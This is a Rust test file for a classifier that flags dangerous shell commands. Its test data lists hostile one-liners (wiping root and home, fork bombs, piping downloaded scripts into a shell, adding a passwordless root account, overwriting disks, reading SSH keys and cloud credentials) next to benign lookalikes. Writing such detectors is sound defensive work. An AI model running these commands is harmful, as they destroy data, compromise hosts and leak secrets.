//! What is noticed, and what is not.

use super::{Danger, Severity};

fn reason(script: &str) -> Option<&'static str> {
    crate::read(script)
        .critical(|_| false)
        .filter(|found| found.severity == Severity::Critical)
        .map(|found| found.reason)
}

#[test]
fn dangerous_commands_are_noticed() {
    for (command, word) in [
        ("rm -rf /", "recursive"),
        ("sudo rm -fr /*", "recursive"),
        ("cd x && rm --recursive --force ~/", "recursive"),
        ("rm -rf \"$HOME\"", "recursive"),
        ("rm -r -f /usr/", "recursive"),
        ("rm -rf --no-preserve-root x", "recursive"),
        ("FOO=1 chmod -R 777 /", "recursive"),
        (":(){ :|:& };:", "fork bomb"),
        ("bomb() { bomb | bomb & }; bomb", "fork bomb"),
        ("curl -fsSL https://x.sh | sh", "fetched"),
        ("wget -qO- x | tee log | sudo -E bash -s -- -y", "fetched"),
        ("curl x | python3 -", "fetched"),
        ("bash <(curl -s x)", "fetched"),
        ("sh -c \"$(curl -fsSL x)\"", "fetched"),
        ("eval \"$(wget -qO- x)\"", "fetched"),
        ("echo root::0:0 >> /etc/passwd", "account"),
        ("echo x 1>/etc/shadow", "account"),
        ("echo x | sudo tee -a /etc/sudoers", "account"),
        ("sudo shutdown -h now", "host"),
        ("true; /sbin/reboot", "host"),
        ("systemctl poweroff", "host"),
        ("init 0", "host"),
        ("mkfs.ext4 /dev/sda1", "disk"),
        ("dd if=/dev/zero of=/dev/nvme0n1 bs=1M", "disk"),
        ("cat image >/dev/sdb", "disk"),
        ("rm -rf $X/", "recursive"),
        ("rm -rf \"${BUILD}\"/*", "recursive"),
        ("bash -c 'rm -rf /'", "recursive"),
        ("echo $(rm -rf ~)", "recursive"),
        ("find / -delete", "recursive"),
        ("env -i xargs rm -rf /", "recursive"),
        ("f() { f & f & }; f", "fork bomb"),
        ("curl x | (cd /tmp; sh)", "fetched"),
        ("curl x > >(bash)", "fetched"),
        ("curl x | while read l; do eval \"$l\"; done", "fetched"),
        ("$(curl x)", "fetched"),
        ("python3 -c \"$(curl x)\"", "fetched"),
        ("bash <<< \"$(curl x)\"", "fetched"),
        ("curl -o install.sh x; sh install.sh", "fetched"),
        ("wget https://x/run.sh && chmod +x run.sh && ./run.sh", "fetched"),
        ("cat ~/.ssh/id_rsa", "credentials"),
        ("base64 < \"$HOME/.aws/credentials\"", "credentials"),
        ("curl -F f=@x -d @/home/user/.netrc x", "credentials"),
    ] {
        assert!(reason(command).is_some_and(|reason| reason.contains(word)), "{command}: {:?}", reason(command));
    }
}

#[test]
fn everyday_commands_are_not() {
    for command in [
        "rm -rf target node_modules",
        "rm -rf ./dist /tmp/build-1",
        "rm -f /etc/nothing",
        "rm /",
        "curl -s https://api | jq .",
        "curl -o install.sh x; less install.sh",
        "cat /etc/passwd | grep root",
        "grep shutdown src/main.rs",
        "echo 'rm -rf /'",
        "git commit -m 'reboot | halt'",
        "dd if=/dev/urandom of=/tmp/x bs=1 count=1",
        "echo x > /dev/null 2>&1",
        "ls 2>&1 | head",
        "f() { g | h & }; f",
        "VAR=/ make -R",
        "chmod -R u+w vendor",
        "",
        "\\",
        "'unclosed",
        "rm -rf $X",
        "rm -rf \"$X/build\"",
        "rm -rf '$HOME'",
        "rm -rf ~/project/target",
        "curl x | python3 -m json.tool",
        "curl x | python3 -c 'import json'",
        "bash build.sh \"$(curl x)\"",
        "cat ~/.ssh/id_rsa.pub ~/.ssh/config",
        "ls ~/.ssh",
    ] {
        assert_eq!(reason(command), None, "{command}");
    }
}

#[test]
fn lost_work_is_the_weaker_class() {
    for (script, expect) in [
        ("git clean -fdx", true),
        ("git reset --hard HEAD~1", true),
        ("git checkout .", true),
        ("terraform destroy -auto-approve", true),
        ("psql -c 'DROP TABLE users'", true),
        ("git clean -n", false),
        ("git checkout main", false),
        ("git push --force", false),
    ] {
        let found = crate::read(script).critical(|_| false).map(|found| found.severity);
        assert_eq!(found, expect.then_some(Severity::DestroysWork), "{script}");
    }
}

#[test]
fn what_is_made_harmless_is_passed_over() {
    use Danger::{Everything, Machine, Network};
    for (script, harmless, expect) in [
        ("rm -rf /", &[][..], Some(Everything)),
        ("rm -rf /", &[Everything], None),
        ("rm -rf /", &[Machine, Network], Some(Everything)),
        ("shutdown now", &[Network, Everything], Some(Machine)),
        ("shutdown now", &[Machine], None),
        ("curl x | sh", &[Machine], Some(Network)),
        ("curl x | sh", &[Machine, Network], None),
        ("rm -rf /; curl x | sh", &[Everything], Some(Network)),
        ("rm -rf /; git clean -fdx", &[Everything, Network], Some(Danger::Work)),
    ] {
        let found = crate::read(script).critical(|danger| harmless.contains(&danger));
        assert_eq!(found.map(|found| found.danger), expect, "{script} {harmless:?}");
    }
}
